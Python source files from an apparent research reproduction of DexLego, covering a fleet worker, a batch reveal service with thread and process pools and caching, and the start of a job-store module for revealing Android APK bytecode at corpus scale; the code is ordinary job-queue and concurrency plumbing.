                self.cancelled.set()

    def stop(self) -> None:
        self._halt.set()
        self.join()


class RevealWorker:
    """One fleet member: claims, reveals, heartbeats, completes.

    ``store`` is the shared queue (path or :class:`JobStore`);
    ``service`` the pipeline executor (built from ``service_kwargs``
    when omitted, exactly like :class:`RevealServer` does).  Artifacts
    land in ``artifact_store`` — default ``<store>/artifacts``, the
    location the gateway serves from.

    The worker publishes the same event vocabulary as the in-process
    server on its own :class:`EventBus`, with every event journalled to
    the store so followers (gateway ``/events``, ``watch`` CLI) see one
    merged fleet stream.
    """

    def __init__(
        self,
        store: JobStore | str,
        service: BatchRevealService | None = None,
        *,
        worker_id: str | None = None,
        lease_ttl_s: float = LEASE_TTL_DEFAULT_S,
        poll_interval_s: float = 0.2,
        artifact_store: ArtifactStore | str | None = None,
        keep_results: bool = False,
        retry: RetryPolicy | None = None,
        **service_kwargs,
    ) -> None:
        if service is not None and service_kwargs:
            raise ValueError(
                f"pass either service or service kwargs, not both "
                f"(got {sorted(service_kwargs)})"
            )
        self.store = JobStore(store) if isinstance(store, str) else store
        self.service = service if service is not None \
            else BatchRevealService(**service_kwargs)
        self.worker_id = worker_id or default_worker_id()
        self.lease_ttl_s = lease_ttl_s
        self.poll_interval_s = poll_interval_s
        if artifact_store is None:
            artifact_store = os.path.join(self.store.path, "artifacts")
        self.artifacts = (ArtifactStore(artifact_store)
                          if isinstance(artifact_store, str)
                          else artifact_store)
        self.keep_results = keep_results
        #: Bounded-retry policy for the store writes that must land for
        #: a job to resolve (artifacts, completion); the claim loop
        #: uses the same policy's curve, uncapped, via a Backoff.
        self.retry = retry if retry is not None else RetryPolicy()
        self.bus = EventBus()
        store_ref = self.store
        self.bus.add_observer(
            lambda event: store_ref.append_event(event.to_dict()))
        self._stop = threading.Event()

    # -- lifecycle ----------------------------------------------------------

    def stop(self) -> None:
        """Ask :meth:`run` to return after the in-flight job (if any)."""
        self._stop.set()

    def run(self, *, max_jobs: int | None = None,
            linger_s: float = 0.0) -> WorkerReport:
        """Drain the store: claim and reveal until it is empty.

        ``linger_s`` keeps the worker polling that long after the queue
        drains (a daemonised fleet member uses a large value; tests and
        one-shot CLIs use 0 for "drain and exit").  ``max_jobs`` bounds
        the total processed.

        A store that stops answering (shared mount flake, injected
        fault) does not kill the loop: the failure is counted in the
        report, the worker backs off with escalating jittered delays,
        and the next success resets the backoff.
        """
        report = WorkerReport(worker_id=self.worker_id)
        backoff = Backoff(self.retry)
        deadline = time.monotonic() + linger_s
        while not self._stop.is_set():
            if max_jobs is not None and report.processed >= max_jobs:
                break
            try:
                status = self.run_one(report=report)
            except OSError as exc:
                report.transient_errors += 1
                delay = backoff.next_delay()
                report.backoff_s += delay
                if backoff.failures == 1:
                    logger.warning(
                        "worker %s: store unavailable (%s); backing off",
                        self.worker_id, exc)
                deadline = max(deadline, time.monotonic() + linger_s)
                self._stop.wait(delay)
                continue
            backoff.reset()
            if status is not None:
                report.processed += 1
                report.job_ids.append(status[1])
                setattr(report, status[0],
                        getattr(report, status[0]) + 1)
                deadline = time.monotonic() + linger_s
                continue
            if time.monotonic() >= deadline:
                break
            self._stop.wait(self.poll_interval_s)
        return report

    # -- one job ------------------------------------------------------------

    def run_one(self, report: WorkerReport | None = None
                ) -> tuple[str, str] | None:
        """Claim and finish one job; ``(disposition, job_id)`` where
        disposition is ``done``/``failed``/``cancelled``/``lost``, or
        ``None`` when nothing was claimable."""
        faults.check("worker.claim")
        record = self.store.claim_next(self.worker_id,
                                       lease_ttl_s=self.lease_ttl_s)
        if record is None:
            return None
        job_id = record["job_id"]
        lease_seq = int(record.get("lease_seq", 0) or 0)
        return (self._process(record, job_id, lease_seq, report=report),
                job_id)

    def _process(self, record: dict, job_id: str, lease_seq: int,
                 report: WorkerReport | None = None) -> str:
        app_id = record.get("app_id", "")
        # A cancel requested while the record sat lease-expired is
        # honoured before any pipeline work.
        if record.get("cancel_requested"):
            return self._finish_cancelled(job_id, lease_seq, app_id,
                                          report=report)
        try:
            job = RevealJob(
                app_id=record["app_id"],
                apk=JobStore.decode_apk(record["apk_b64"]),
                device=JobStore.decode_device(record.get("device")),
                collect_only=record.get("collect_only", False),
                cache_salt=record.get("cache_salt", ""),
            )
        except Exception:
            landed = self._complete(report, job_id, lease_seq,
                                    state=JobState.FAILED,
                                    error="unreadable job record")
            if not landed:
                return "lost"
            self.bus.publish(EVENT_FAILED, job_id, app_id,
                             payload={"error": "unreadable job record",
                                      "worker_id": self.worker_id})
            return "failed"

        queue_wait_s = max(0.0, (record.get("started_at") or 0.0)
                           - (record.get("submitted_at") or 0.0))
        self.bus.publish(EVENT_STARTED, job_id, job.app_id, payload={
            "queue_wait_s": queue_wait_s,
            "worker_id": self.worker_id,
            "attempt": int(record.get("attempts", 0) or 0),
        })
        beat = _HeartbeatThread(self.store, job_id, lease_seq,
                                self.lease_ttl_s)
        beat.start()
        try:
            outcome = self._execute(job_id, job)
        except Exception as exc:  # _run_job never raises; belt and braces
            outcome = RevealOutcome(
                app_id=job.app_id, status=STATUS_ERROR,
                error=f"{type(exc).__name__}: {exc}",
            )
        finally:
            beat.stop()
            if report is not None:
                report.transient_errors += beat.transient_errors
        outcome.queue_wait_s = queue_wait_s
        if beat.lost.is_set():
            # Another worker owns the job now; our result is discarded
            # (its completion would be fenced off regardless).
            return "lost"
        if beat.cancelled.is_set():
            return self._finish_cancelled(job_id, lease_seq, job.app_id,
                                          report=report)
        if outcome.index_stats:
            self.bus.publish(EVENT_INDEX, job_id, job.app_id,
                             payload=dict(outcome.index_stats))
        if outcome.degraded:
            self.bus.publish(EVENT_DEGRADED, job_id, job.app_id,
                             payload={"subsystems": list(outcome.degraded),
                                      "worker_id": self.worker_id})
        # Artifact puts are content-addressed, so retrying them is
        # idempotent; a re-run by another worker after a lost lease
        # lands the same digests.
        digests = call_with_retries(
            lambda: self._store_artifacts(outcome),
            policy=self.retry, retryable=self._transient,
            on_retry=self._counter(report))
        failed = outcome.status in FAILED_STATUSES
        landed = self._complete(
            report, job_id, lease_seq,
            state=JobState.FAILED if failed else JobState.DONE,
            outcome=outcome.to_summary(),
            error=outcome.error,
            artifacts=digests,
        )
        if not landed:
            return "lost"
        payload = outcome.to_summary()
        payload["worker_id"] = self.worker_id
        payload["artifacts"] = digests
        self.bus.publish(EVENT_FAILED if failed else EVENT_DONE,
                         job_id, job.app_id, payload=payload)
        return "failed" if failed else "done"

    @staticmethod
    def _transient(exc: Exception) -> bool:
        return isinstance(exc, OSError)

    def _counter(self, report: WorkerReport | None):
        """An ``on_retry`` callback accounting into ``report``."""
        def count(_exc, _attempt, delay: float) -> None:
            if report is not None:
                report.retries += 1
                report.backoff_s += delay
        return count

    def _complete(self, report: WorkerReport | None, job_id: str,
                  lease_seq: int, **kwargs) -> bool:
        """``complete_leased`` under bounded retry — the one write that
        must land for a job to resolve.  Retrying is safe: the store's
        done-token records the winning lease generation, so this owner
        recovers its own half-finished completion, while a different
        generation's attempt is fenced off."""
        def once() -> bool:
            faults.check("worker.complete")
            return self.store.complete_leased(job_id, lease_seq, **kwargs)

        return call_with_retries(once, policy=self.retry,
                                 retryable=self._transient,
                                 on_retry=self._counter(report))

    def _finish_cancelled(self, job_id: str, lease_seq: int,
                          app_id: str,
                          report: WorkerReport | None = None) -> str:
        landed = self._complete(report, job_id, lease_seq,
                                state=JobState.CANCELLED)
        if not landed:
            return "lost"
        self.bus.publish(EVENT_CANCELLED, job_id, app_id,
                         payload={"worker_id": self.worker_id})
        return "cancelled"

    def _execute(self, job_id: str, job: RevealJob) -> RevealOutcome:
        """One job through the service — the same cache-then-run path
        (and event vocabulary) as ``RevealServer._execute``."""
        service = self.service

        def on_stage(event) -> None:
            self.bus.publish(EVENT_STAGE, job_id, job.app_id, payload={
                "stage": event.stage,
                "duration_s": event.duration_s,
                "ok": event.ok,
                "error": event.error,
            })

        def on_wave(snapshot: dict) -> None:
            self.bus.publish(EVENT_WAVE, job_id, job.app_id,
                             payload=dict(snapshot))

        key = service.job_cache_key(job) if job.cacheable else ""

        def compute() -> RevealOutcome:
            return service._run_job(job, key, observer=on_stage,
                                    wave_observer=on_wave)

        if key:
            outcome, hit = service.cache.get_or_compute(key, compute)
            if hit:
                outcome.app_id = job.app_id
                self.bus.publish(EVENT_CACHE_HIT, job_id, job.app_id,
                                 payload={"cache_key": key})
        else:
            outcome = compute()
        return outcome

    # -- artifacts -----------------------------------------------------------

    def _store_artifacts(self, outcome: RevealOutcome) -> dict:
        """Persist what the job produced; ``{kind: digest}``.

        Collect-only jobs and hard failures produce nothing; disk-cache
        hits carry the APK bytes but no live archive, so they store the
        APK/DEX pair and skip the collection zip.
        """
        digests: dict[str, str] = {}
        apk = outcome.revealed_apk
        if apk is not None:
            digests[ARTIFACT_REVEALED_APK] = self.artifacts.put(
                apk.to_bytes())
            if apk.dex_files:
                from repro.dex.writer import write_dex
                digests[ARTIFACT_REVEALED_DEX] = self.artifacts.put(
                    write_dex(apk.primary_dex))
        result = outcome.result
        if result is not None and result.archive is not None:
            digests[ARTIFACT_COLLECTION] = self.artifacts.put(
                collection_zip_bytes(result.archive))
        if not self.keep_results:
            outcome.result = None
            outcome.revealed_apk_bytes = None
        return digests


def collection_zip_bytes(archive) -> bytes:
    """One collection archive as a deterministic zip (sorted names,
    fixed timestamps) — equal archives hash to equal artifacts."""
    with tempfile.TemporaryDirectory() as tmpdir:
        archive.save(tmpdir)
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name in sorted(os.listdir(tmpdir)):
                with open(os.path.join(tmpdir, name), "rb") as fh:
                    data = fh.read()
                info = zipfile.ZipInfo(name, date_time=(1980, 1, 1,
                                                        0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(info, data)
        return buf.getvalue()
