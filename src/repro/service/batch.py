"""BatchRevealService: corpus-scale reveal with workers and caching.

The paper evaluates DexLego one application at a time; its consumers
(static analyzers scanning markets, unpacking services, CI pipelines)
run it over *corpora*.  This module is that production posture:

* a :class:`RevealJob` names one application plus its per-app knobs
  (device profile, drive callable, collect-only mode),
* :class:`BatchRevealService` fans jobs across a ``concurrent.futures``
  pool — thread-backed by default, process-backed for CPU-bound fleets,
  or serial for debugging — with every job isolated so one crashing APK
  produces an ``error`` record instead of aborting the batch,
* results flow through the content-addressed
  :class:`~repro.service.cache.RevealCache`, so re-running a corpus only
  pays for apps whose bytes or pipeline configuration changed,
* the returned :class:`~repro.service.stats.BatchReport` preserves
  submission order and carries throughput aggregates (apps/sec, cache
  hit rate, p50/p95 latency and queue wait).

Since the job-server redesign, ``reveal_batch`` is a façade:
``thread``/``serial`` corpora run through an ephemeral
:class:`~repro.service.server.RevealServer` (``submit_many`` +
``await_many``), which is also where incremental submission, priorities,
cancellation and the unified event stream live for callers that want
more than call-and-wait.

Backend notes
-------------

The ``process`` backend serialises each APK to bytes and rebuilds the
pipeline in the worker, so it only ships jobs it can reconstruct there:
no ``drive`` callable (closures do not pickle); the device profile —
custom or registry — travels whole inside ``RevealConfig.to_dict()``.
Jobs with a drive transparently run in the parent while the pool
works.  On platforms whose process start method is not ``fork``,
registered native libraries are not inherited by workers — thread
remains the safe default everywhere.
"""

from __future__ import annotations

import logging
import os
import time
import traceback
import threading
from concurrent.futures import Executor, ProcessPoolExecutor, ThreadPoolExecutor
from dataclasses import dataclass
from typing import Callable, Iterable, Sequence

from repro.core.config import RevealConfig, resolve_config
from repro.core.pipeline import DexLego
from repro.errors import StageError, VerificationError
from repro.runtime.apk import Apk
from repro.runtime.device import DeviceProfile
from repro.service.api import SubmitAPI, warn_deprecated
from repro.service.cache import RevealCache, reveal_cache_key
from repro.service.jobs import PRIORITY_NORMAL
from repro.service.outcomes import (
    STATUS_ERROR,
    STATUS_VERIFY_FAILED,
    RevealOutcome,
    classify_result,
)
from repro.service.stats import BatchReport

BACKENDS = ("thread", "process", "serial")

logger = logging.getLogger(__name__)

#: Environment override consulted when a service (or experiment runner)
#: does not pin a worker count; also settable via :func:`set_default_workers`.
WORKERS_ENV_VAR = "DEXLEGO_WORKERS"

_default_workers: int | None = None


def set_default_workers(count: int | None) -> None:
    """Process-wide default worker count (the runner's ``--workers``)."""
    global _default_workers
    _default_workers = count


def default_worker_count() -> int:
    """Resolved default: explicit setting, else env var, else serial."""
    if _default_workers is not None:
        return max(1, _default_workers)
    env = os.environ.get(WORKERS_ENV_VAR, "")
    try:
        return max(1, int(env))
    except ValueError:
        return 1


@dataclass
class RevealJob:
    """One unit of batch work.

    Fields:

    * ``app_id`` — identifier the outcome is reported under.
    * ``apk`` — the application to reveal.
    * ``device`` — per-job device profile override (DroidBench samples
      pin emulator vs. handset identity); ``None`` uses the service's.
    * ``drive`` — optional drive callable forwarded to the pipeline
      (e.g. a fuzzer); jobs with a drive are not cacheable unless they
      also set ``cache_salt``, because the cache cannot fingerprint a
      callable.
    * ``collect_only`` — run only the JIT-collection half (Table VI's
      dump-size measurements) and skip reassembly.
    * ``cache_salt`` — extra key material identifying the drive/workload.
    """

    app_id: str
    apk: Apk
    device: DeviceProfile | None = None
    drive: Callable | None = None
    collect_only: bool = False
    cache_salt: str = ""

    @property
    def cacheable(self) -> bool:
        return self.drive is None or bool(self.cache_salt)


class BatchRevealService(SubmitAPI):
    """Parallel, cached collect→reassemble→verify over an APK corpus.

    As a :class:`~repro.service.api.SubmitAPI` implementation, the
    service also accepts incremental submissions directly: the first
    :meth:`submit` lazily boots an internal
    :class:`~repro.service.server.RevealServer` (shared config, shared
    cache) that :meth:`close` shuts down.
    """

    def __init__(
        self,
        *,
        device: DeviceProfile | None = None,
        use_force_execution: bool | None = None,
        run_budget: int | None = None,
        force_iterations: int | None = None,
        exploration_strategy: str | None = None,
        max_paths: int | None = None,
        path_budget: int | None = None,
        explore_workers: int | None = None,
        explore_backend: str | None = None,
        index_dir: str | None = None,
        cluster_dir: str | None = None,
        config: RevealConfig | None = None,
        workers: int | None = None,
        backend: str = "thread",
        cache: RevealCache | None = None,
        cache_dir: str | None = None,
    ) -> None:
        if backend not in BACKENDS:
            raise ValueError(f"backend {backend!r} not one of {BACKENDS}")
        if cache is not None and cache_dir is not None:
            raise ValueError("pass either cache or cache_dir, not both")
        self.config = resolve_config(
            config,
            device=device,
            use_force_execution=use_force_execution,
            run_budget=run_budget,
            force_iterations=force_iterations,
            exploration_strategy=exploration_strategy,
            max_paths=max_paths,
            path_budget=path_budget,
            explore_workers=explore_workers,
            explore_backend=explore_backend,
            index_dir=index_dir,
            cluster_dir=cluster_dir,
        )
        self.workers = max(1, workers) if workers is not None \
            else default_worker_count()
        self.backend = backend
        self.cache = cache if cache is not None else RevealCache(cache_dir)
        # One CorpusIndex shared by every in-process job (it is
        # thread-safe), created lazily so index-less services never pay
        # for it.  Process workers open their own instance from the
        # ``index_dir`` travelling inside the config dict.
        self._index = None
        self._index_lock = threading.Lock()
        # Same sharing story for the ClusterStore: thread-safe, lazily
        # created, and process workers open their own from the config.
        self._cluster = None
        self._cluster_lock = threading.Lock()
        # Graceful degradation: subsystem name -> reason, populated
        # when an *optional* store (index, cluster) fails to open.  A
        # failed open is remembered so each reveal does not retry (and
        # re-warn about) a corrupt directory; reopening means building
        # a new service.
        self._degraded: dict[str, str] = {}
        # Lazily booted by the first direct submit(); owned and closed
        # by this service.  reveal_batch keeps its own ephemeral server
        # so call-and-wait corpora never leave a pool lingering.
        self._submit_server = None
        self._submit_lock = threading.Lock()

    # Attribute views kept for callers that read the old constructor
    # fields off the instance.

    @property
    def device(self) -> DeviceProfile:
        return self.config.device

    @property
    def use_force_execution(self) -> bool:
        return self.config.use_force_execution

    @property
    def run_budget(self) -> int:
        return self.config.run_budget

    @property
    def force_iterations(self) -> int:
        return self.config.force_iterations

    # -- pipeline construction ---------------------------------------------

    def config_for(self, job: RevealJob) -> RevealConfig:
        """The service config with the job's device override applied."""
        if job.device is None or job.device == self.config.device:
            return self.config
        return self.config.replace(device=job.device)

    def pipeline_for(self, job: RevealJob, observer=None,
                     wave_observer=None) -> DexLego:
        """A fresh, job-private pipeline (runtimes are never shared).

        ``observer`` receives the pipeline's per-stage
        :class:`~repro.core.stages.StageEvent` records and
        ``wave_observer`` the exploration scheduler's wave snapshots —
        the two channels the reveal server unifies into its event bus.
        """
        config = self.config_for(job)
        if config.archive_dir is not None:
            # Collection files have fixed names, so parallel jobs
            # sharing one archive directory would cross-contaminate
            # their save/load round-trips; scope it per job.
            config = config.replace(
                archive_dir=os.path.join(config.archive_dir, job.app_id))
        index = self.corpus_index()
        cluster = self.cluster_store()
        # Once the service has noted a degraded store, job pipelines
        # must not re-attempt (and re-warn about) the corrupt open
        # through their own lazy path.
        degraded = self.degraded_subsystems()
        if "index" in degraded:
            config = config.replace(index_dir=None)
        if "cluster" in degraded:
            config = config.replace(cluster_dir=None)
        return DexLego(config=config, observer=observer,
                       wave_observer=wave_observer,
                       index=index, cluster=cluster)

    def corpus_index(self):
        """The service-wide :class:`~repro.index.corpus.CorpusIndex`
        (``None`` without an ``index_dir``), shared across jobs so a
        batch dedups against itself, not just against past runs.

        A corrupt or foreign-version ``index_dir`` degrades to ``None``
        (no dedup, one warning, ``degraded`` stamped on outcomes)
        instead of failing every reveal in the batch — the index is an
        optimisation, never a prerequisite.
        """
        if self.config.index_dir is None:
            return None
        with self._index_lock:
            if self._index is None and "index" not in self._degraded:
                from repro.index.corpus import CorpusIndex

                try:
                    self._index = CorpusIndex(self.config.index_dir)
                except (OSError, ValueError) as exc:
                    self._note_degraded("index", exc)
            return self._index

    def cluster_store(self):
        """The service-wide :class:`~repro.cluster.store.ClusterStore`
        (``None`` without a ``cluster_dir``), shared across jobs so a
        batch labels against everything it has already revealed.

        Degrades to ``None`` on a corrupt or foreign-version
        ``cluster_dir``, exactly like :meth:`corpus_index` — reveals
        proceed unlabeled rather than failing.
        """
        if self.config.cluster_dir is None:
            return None
        with self._cluster_lock:
            if self._cluster is None and "cluster" not in self._degraded:
                from repro.cluster.store import ClusterStore

                try:
                    self._cluster = ClusterStore(self.config.cluster_dir)
                except (OSError, ValueError) as exc:
                    self._note_degraded("cluster", exc)
            return self._cluster

    def _note_degraded(self, subsystem: str, exc: Exception) -> None:
        """Record (and warn once about) one degraded subsystem."""
        if subsystem in self._degraded:
            return
        self._degraded[subsystem] = f"{type(exc).__name__}: {exc}"
        logger.warning(
            "%s unavailable (%s); continuing without it — reveals will "
            "carry degraded=[%r]", subsystem, self._degraded[subsystem],
            subsystem)

    def degraded_subsystems(self) -> dict[str, str]:
        """Subsystem name -> reason for everything this service has had
        to bypass (empty when fully provisioned)."""
        with self._index_lock:
            with self._cluster_lock:
                return dict(self._degraded)

    def job_cache_key(self, job: RevealJob) -> str:
        salt = job.cache_salt
        if job.collect_only:
            salt += "|collect-only"
        return reveal_cache_key(job.apk, self.config_for(job), salt)

    # -- single job ---------------------------------------------------------

    def reveal_one(self, job: RevealJob | Apk) -> RevealOutcome:
        """Run (or fetch) one job; never raises for per-app failures.

        Routed through :meth:`RevealCache.get_or_compute`, so two
        threads revealing the same bytes under the same config run one
        pipeline and share the admitted record.
        """
        job = self._coerce(job)
        if not job.cacheable:
            return self._run_job(job, "")
        key = self.job_cache_key(job)
        outcome, hit = self.cache.get_or_compute(
            key, lambda: self._run_job(job, key))
        if hit:
            outcome.app_id = job.app_id  # content-addressed, not name-addressed
        return outcome

    # -- batch --------------------------------------------------------------

    def server(self, **kwargs) -> "RevealServer":
        """A :class:`~repro.service.server.RevealServer` owned by this
        service — shared config, shared cache.  Keyword arguments
        (``max_pending=``, ``store=``, ``autostart=``...) pass through."""
        from repro.service.server import RevealServer

        kwargs.setdefault(
            "workers", 1 if self.backend == "serial" else self.workers)
        return RevealServer(service=self, **kwargs)

    # -- SubmitAPI ----------------------------------------------------------

    def _ensure_server(self):
        with self._submit_lock:
            if self._submit_server is None:
                self._submit_server = self.server()
            return self._submit_server

    def submit(self, job: RevealJob | Apk, *, priority=PRIORITY_NORMAL,
               **kwargs):
        """Enqueue one job on the service's internal server."""
        return self._ensure_server().submit(job, priority=priority,
                                            **kwargs)

    def poll(self, job_id: str):
        return self._ensure_server().poll(job_id)

    def cancel(self, job_id: str) -> bool:
        return self._ensure_server().cancel(job_id)

    def handles(self) -> list:
        with self._submit_lock:
            server = self._submit_server
        return [] if server is None else server.handles()

    def close(self, drain: bool = True) -> None:
        """Shut down the internal submit server (no-op without one)."""
        with self._submit_lock:
            server, self._submit_server = self._submit_server, None
        if server is not None:
            server.close(drain=drain)

    def __enter__(self) -> "BatchRevealService":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close(drain=exc_type is None)

    # -- deprecated legacy delegates ----------------------------------------

    def submit_all(self, jobs: Iterable[RevealJob | Apk], server=None,
                   priority=None) -> list:
        """Deprecated: ``submit_many`` (on a server, or on the service
        itself) is the surviving spelling.  The pre-protocol form took
        the target server positionally; that shape still works."""
        warn_deprecated("BatchRevealService.submit_all", "submit_many")
        target = self if server is None else server
        if priority is None:
            return target.submit_many(jobs)
        return target.submit_many(jobs, priority=priority)

    def await_all(self, handles=None, timeout=None) -> list[RevealOutcome]:
        """Deprecated alias of :meth:`await_many` (handles may come
        from any server — only ``handle.wait`` is used)."""
        warn_deprecated("BatchRevealService.await_all", "await_many")
        return self.await_many(handles, timeout=timeout)

    def reveal_batch(self, jobs: Iterable[RevealJob | Apk]) -> BatchReport:
        """Run a corpus; outcomes come back in submission order.

        A thin façade over the job server: cache hits resolve in the
        calling thread (a warm corpus never pays for queueing), then
        the misses run as ``submit`` + ``wait`` against an
        ephemeral :class:`~repro.service.server.RevealServer`.  The
        ``process`` backend keeps its dedicated pool — process workers
        rebuild the pipeline from picklable primitives, which is not a
        thread-pool concern — and the ``serial`` backend is a
        one-worker server.
        """
        job_list = [self._coerce(j) for j in jobs]
        started = time.perf_counter()
        if self.backend == "process" and job_list:
            outcomes = self._reveal_batch_pooled(job_list)
        else:
            slots: list[RevealOutcome | None] = [None] * len(job_list)
            # The key hashes every DEX and asset — compute it once per
            # job and hand it to the server with the submission.
            pending: list[tuple[int, RevealJob, str]] = []
            for index, job in enumerate(job_list):
                key = self.job_cache_key(job) if job.cacheable else ""
                cached = self._lookup(job, key)
                if cached is not None:
                    slots[index] = cached
                else:
                    pending.append((index, job, key))
            if pending:
                server = self.server()
                try:
                    handles = [server.submit(job, cache_key=key)
                               for _, job, key in pending]
                    for (index, _job, _key), handle in zip(pending, handles):
                        slots[index] = handle.wait()
                finally:
                    server.close()
            outcomes = [o for o in slots if o is not None]
        return BatchReport(
            outcomes=outcomes,
            wall_time_s=time.perf_counter() - started,
            workers=self.workers,
            backend=self.backend,
        )

    def _reveal_batch_pooled(
            self, job_list: list[RevealJob]) -> list[RevealOutcome]:
        """The pre-server batch body, kept for the process backend."""
        outcomes: list[RevealOutcome | None] = [None] * len(job_list)

        # The key hashes every DEX and asset — compute it once per job.
        pending: list[tuple[int, RevealJob, str]] = []
        for index, job in enumerate(job_list):
            key = self.job_cache_key(job) if job.cacheable else ""
            cached = self._lookup(job, key)
            if cached is not None:
                outcomes[index] = cached
            else:
                pending.append((index, job, key))

        if pending:
            if self.workers <= 1 or len(pending) == 1:
                for index, job, key in pending:
                    outcomes[index] = self._run_job(job, key)
            else:
                self._run_pool(pending, outcomes)
            for index, job, _key in pending:
                self._store(job, outcomes[index])
        return [o for o in outcomes if o is not None]

    # -- internals ----------------------------------------------------------

    @staticmethod
    def _coerce(job: RevealJob | Apk) -> RevealJob:
        if isinstance(job, RevealJob):
            return job
        return RevealJob(app_id=job.package, apk=job)

    def _lookup(self, job: RevealJob, key: str) -> RevealOutcome | None:
        if not job.cacheable:
            return None
        cached = self.cache.get(key)
        if cached is not None:
            cached.app_id = job.app_id  # key is content-addressed, not name-addressed
        return cached

    def _store(self, job: RevealJob, outcome: RevealOutcome | None) -> None:
        if outcome is not None and job.cacheable and not outcome.cache_hit:
            self.cache.put(outcome.cache_key, outcome)

    def _run_pool(
        self,
        pending: Sequence[tuple[int, RevealJob, str]],
        outcomes: list[RevealOutcome | None],
    ) -> None:
        shippable: list[tuple[int, RevealJob, str]] = []
        local: list[tuple[int, RevealJob, str]] = []
        if self.backend == "process":
            for entry in pending:
                target = shippable if self._process_safe(entry[1]) else local
                target.append(entry)
        else:
            shippable = list(pending)

        executor: Executor | None = None
        if shippable:
            max_workers = min(self.workers, len(shippable))
            if self.backend == "process":
                executor = ProcessPoolExecutor(max_workers=max_workers)
            else:
                executor = ThreadPoolExecutor(
                    max_workers=max_workers, thread_name_prefix="reveal"
                )
        try:
            futures = {}
            for index, job, key in shippable:
                if self.backend == "process":
                    future = executor.submit(
                        _process_reveal,
                        job.app_id,
                        job.apk.to_bytes(),
                        self.config_for(job).to_dict(),
                        job.collect_only,
                        key,
                    )
                else:
                    future = executor.submit(self._run_job, job, key)
                futures[future] = (index, job, key)
            # Jobs the process backend cannot pickle (custom drive,
            # unregistered device) run in the parent while the pool works.
            for index, job, key in local:
                outcomes[index] = self._run_job(job, key)
            for future, (index, job, key) in futures.items():
                try:
                    outcomes[index] = future.result()
                except Exception as exc:  # worker death must not kill the batch
                    outcomes[index] = RevealOutcome(
                        app_id=job.app_id,
                        status=STATUS_ERROR,
                        error=f"{type(exc).__name__}: {exc}",
                        cache_key=key,
                    )
        finally:
            if executor is not None:
                executor.shutdown()

    def _process_safe(self, job: RevealJob) -> bool:
        """Can this job ship to a process worker?  Only a ``drive``
        callable blocks shipping (closures do not pickle); any device
        profile travels whole inside ``RevealConfig.to_dict()``."""
        return job.drive is None

    def _degraded_for(self, lego, result=None) -> list:
        """Sorted union of everything this reveal had to bypass:
        service-level open failures, pipeline-level ones, and a
        mid-reveal index write failure reported by the stages."""
        names = set(self._degraded)
        names.update(lego.pipeline.degraded)
        if result is not None and result.index_stats.get("degraded"):
            names.add("index")
        return sorted(names)

    def _run_job(self, job: RevealJob, key: str = "", observer=None,
                 wave_observer=None) -> RevealOutcome:
        lego = self.pipeline_for(job, observer=observer,
                                 wave_observer=wave_observer)
        started = time.perf_counter()
        try:
            if job.collect_only:
                timings: dict = {}
                collected = lego.pipeline.collect(job.apk, job.drive,
                                                  timings=timings)
                return RevealOutcome(
                    app_id=job.app_id,
                    status=classify_result(collected),
                    latency_s=time.perf_counter() - started,
                    dump_size_bytes=collected.dump_size_bytes,
                    collector_stats=collected.collector_stats,
                    error=collected.crash_reason,
                    stage_timings=timings,
                    exploration=(collected.force_report.to_summary()
                                 if collected.force_report else {}),
                    degraded=self._degraded_for(lego),
                    cache_key=key,
                )
            result = lego.reveal(job.apk, drive=job.drive)
            status = classify_result(result)
        except StageError as err:
            verify_failed = isinstance(err.cause, VerificationError)
            return RevealOutcome(
                app_id=job.app_id,
                status=STATUS_VERIFY_FAILED if verify_failed else STATUS_ERROR,
                latency_s=time.perf_counter() - started,
                error=(str(err.cause) if verify_failed else
                       f"{type(err.cause).__name__}: {err.cause}"),
                failed_stage=err.stage,
                degraded=self._degraded_for(lego),
                cache_key=key,
            )
        except Exception as exc:
            return RevealOutcome(
                app_id=job.app_id,
                status=STATUS_ERROR,
                latency_s=time.perf_counter() - started,
                error="".join(
                    traceback.format_exception_only(type(exc), exc)
                ).strip(),
                degraded=self._degraded_for(lego),
                cache_key=key,
            )
        return RevealOutcome(
            app_id=job.app_id,
            status=status,
            latency_s=time.perf_counter() - started,
            dump_size_bytes=result.dump_size_bytes,
            collector_stats=result.collector_stats,
            error=result.crash_reason,
            stage_timings=result.stage_timings,
            exploration=(result.force_report.to_summary()
                         if result.force_report else {}),
            index_stats=dict(result.index_stats),
            cluster_stats=dict(result.cluster_stats),
            degraded=self._degraded_for(lego, result),
            cache_key=key,
            result=result,
        )


def _process_reveal(
    app_id: str,
    apk_bytes: bytes,
    config_dict: dict,
    collect_only: bool,
    cache_key: str,
) -> RevealOutcome:
    """Module-level worker body for the process backend.

    Rebuilds the APK and pipeline from picklable primitives — the
    configuration travels as ``RevealConfig.to_dict()`` — and returns
    a slim outcome (serialised revealed APK, no live result object).
    """
    service = BatchRevealService(
        config=RevealConfig.from_dict(config_dict),
        workers=1,
        backend="serial",
    )
    job = RevealJob(app_id=app_id, apk=Apk.from_bytes(apk_bytes),
                    collect_only=collect_only)
    outcome = service._run_job(job)
    outcome.cache_key = cache_key
    # Strip the live result: ship the serialised revealed APK instead.
    if outcome.result is not None:
        revealed = outcome.result.revealed_apk
        if revealed is not None and revealed.dex_files:
            outcome.revealed_apk_bytes = revealed.to_bytes()
        outcome.result = None
    return outcome
