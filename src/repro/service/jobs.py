"""Job lifecycle primitives for the reveal server.

A *job* is one application's trip through the service:
``queued → running → done | failed | cancelled``.  This module owns the
three pieces the server composes:

* :class:`JobState` — the five states and the legal transitions;
* :class:`JobHandle` — the caller's view of one submitted job: state,
  timestamps (submit / start / finish), priority, the final
  :class:`~repro.service.outcomes.RevealOutcome`, and a blocking
  :meth:`JobHandle.wait`;
* :class:`JobStore` — a JSON-on-disk journal of job records plus an
  append-only event log, so a killed server can be restarted against
  the same directory and finish the jobs it still owes (the queue
  analogue of ``resume_exploration()`` resuming a run).

Store layout
------------

``<store>/jobs/<job_id>.json``
    One record per job, rewritten atomically on every state change.
    The serialised APK travels inside the record (base64), so a
    restarted server can rebuild the :class:`~repro.service.batch.RevealJob`
    without the submitting process.
``<store>/events.jsonl``
    Every :class:`~repro.service.events.JobEvent` the server published,
    one JSON object per line — what ``python -m repro.service watch``
    tails.

Jobs whose ``drive`` callable cannot be serialised are journalled
without it; a resumed run re-executes them with the default drive.

Worker-fleet leases
-------------------

The store doubles as the queue a fleet of
:class:`~repro.service.worker.RevealWorker` processes drains.  A worker
